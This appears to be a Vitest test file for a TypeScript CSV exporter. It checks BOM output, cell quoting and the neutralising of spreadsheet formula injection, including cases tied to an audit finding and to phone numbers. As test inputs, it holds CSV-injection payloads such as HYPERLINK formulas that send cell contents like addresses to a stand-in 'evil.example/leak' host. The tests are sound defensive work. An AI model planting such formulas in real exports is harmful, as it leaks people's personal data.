import { describe, expect, it } from 'vitest';
import { csvColumns, toCsv, UTF8_BOM } from './csv';

interface Row {
  name: string;
  price: number;
  note?: string | null;
}

const columns = csvColumns<Row, 'name' | 'price' | 'note'>(
  { name: 'Name', price: 'Price (USD)', note: 'Note' },
  { name: (row) => row.name, price: (row) => row.price, note: (row) => row.note },
);

/** The file's lines after the BOM. */
const lines = async (rows: Row[]) => (await toCsv(columns, rows)).slice(1).split('\r\n');

describe('toCsv', () => {
  it('starts with a UTF-8 BOM, then the headings in order, and ends with a line break', async () => {
    const csv = await toCsv(columns, [{ name: 'Café ATX', price: 48 }]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('Name,Price (USD),Note\r\nCafé ATX,48,\r\n');
  });

  it('quotes a cell with a comma, a quote or a new line, and doubles its quotes', async () => {
    const csv = await toCsv(columns, [
      { name: 'Case, mid-tower', price: 1 },
      { name: 'The "Nova" case', price: 2 },
      { name: 'Line one\nline two', price: 3, note: 'a\r\nb' },
    ]);
    expect(csv.slice(1)).toBe(
      'Name,Price (USD),Note\r\n' +
        '"Case, mid-tower",1,\r\n' +
        '"The ""Nova"" case",2,\r\n' +
        '"Line one\nline two",3,"a\r\nb"\r\n',
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('neutralises a formula: %j becomes %s', async (name, cell) => {
    const [, row] = await lines([{ name, price: 1 }]);
    expect(row).toBe(`${cell},1,`);
  });

  describe('finding 5: no formula passes by a line break', () => {
    /** The one row's line (a cell may hold line breaks of its own, so it is not split). */
    const rowOf = async (name: string) =>
      (await toCsv(columns, [{ name, price: 1 }]))
        .slice(1)
        .replace('Name,Price (USD),Note\r\n', '');

    it.each([
      // The report's cells: a name and an address that start a formula on their first line and
      // continue it on the next, and a PO number.
      [
        '=HYPERLINK("https://evil.example/n?"&C2,\n"Eve")',
        `"'=HYPERLINK(""https://evil.example/n?""&C2,\n""Eve"")"`,
      ],
      [
        '=HYPERLINK("https://evil.example/leak?d="&A2&B2,\r\n"Click to see delivery address")',
        `"'=HYPERLINK(""https://evil.example/leak?d=""&A2&B2,\r\n""Click to see delivery address"")"`,
      ],
      ['+SUM(1,2)\nx', `"'+SUM(1,2)\nx"`],
      // A harmless first line, and a formula on the second (or a later) one.
      [
        'Eve Example\n=HYPERLINK("https://evil.example")',
        `"'Eve Example\n=HYPERLINK(""https://evil.example"")"`,
      ],
      ['1 Main St\r\n-2+3', `"'1 Main St\r\n-2+3"`],
      ['Dock 4\rSpringfield\r@SUM(A1)', `"'Dock 4\rSpringfield\r@SUM(A1)"`],
      ['first\n\t=1', `"'first\n\t=1"`],
    ])('neutralises %j as %s', async (name, cell) => {
      expect(await rowOf(name)).toBe(`${cell},1,\r\n`);
    });

    it.each([
      ['1 Main Street\nSpringfield, IL 62704', '"1 Main Street\nSpringfield, IL 62704"'],
      ['Unit 4\r\nFoundry Road 18', '"Unit 4\r\nFoundry Road 18"'],
      ['PO A=B+C\nnext line x-y', '"PO A=B+C\nnext line x-y"'],
      ['Anna Case', 'Anna Case'],
    ])('leaves %j untouched', async (name, cell) => {
      expect(await rowOf(name)).toBe(`${cell},1,\r\n`);
    });
  });

  describe('defect 16: a phone number is written as it is, a formula is still neutralised', () => {
    it.each([
      '+49 40 123456',
      '+1 555 0100',
      '+1 (555) 010-0100',
      '+44 20.7946.0958',
      '+49 40/123456',
      '+86-755-1234-5678',
    ])('leaves the phone number %j without a quote', async (phone) => {
      const [, row] = await lines([{ name: phone, price: 1 }]);
      expect(row).toBe(`${phone},1,`);
    });

    it.each([
      // An operator chained after the first, a function, a reference, a line break or a tab:
      // not a phone number, so the quote goes in front as before.
      ['+1+2', `"'+1+2"`],
      ['+49 40 123456+SUM(A1)', `"'+49 40 123456+SUM(A1)"`],
      ['+49 40 HYPERLINK', `"'+49 40 HYPERLINK"`],
      ['+A1', `"'+A1"`],
      ['+49 40 123456\n=1', `"'+49 40 123456\n=1"`],
      ['+49 40 123456\t', `"'+49 40 123456\t"`],
      ['+', `"'+"`],
      ['-49 40 123456', `"'-49 40 123456"`],
      ['=49 40 123456', `"'=49 40 123456"`],
      ['@49', `"'@49"`],
    ])('neutralises %j as %s', async (name, cell) => {
      const [, ...rest] = (await toCsv(columns, [{ name, price: 1 }])).slice(1).split('\r\n');
      expect(rest.join('\r\n')).toBe(`${cell},1,\r\n`);
    });
  });

  it('leaves a formula character inside a text alone, and numbers (negative too) as numbers', async () => {
    expect(await lines([{ name: 'A=B+C', price: -12.5 }])).toEqual([
      'Name,Price (USD),Note',
      'A=B+C,-12.5,',
      '',
    ]);
  });

  it('writes dollars as plain numbers and an absent value as an empty cell', async () => {
    expect(await lines([{ name: 'PSU', price: 1234.5, note: null }])).toEqual([
      'Name,Price (USD),Note',
      'PSU,1234.5,',
      '',
    ]);
  });

  it('writes only the headings for no rows', async () => {
    expect(await lines([])).toEqual(['Name,Price (USD),Note', '']);
  });
});
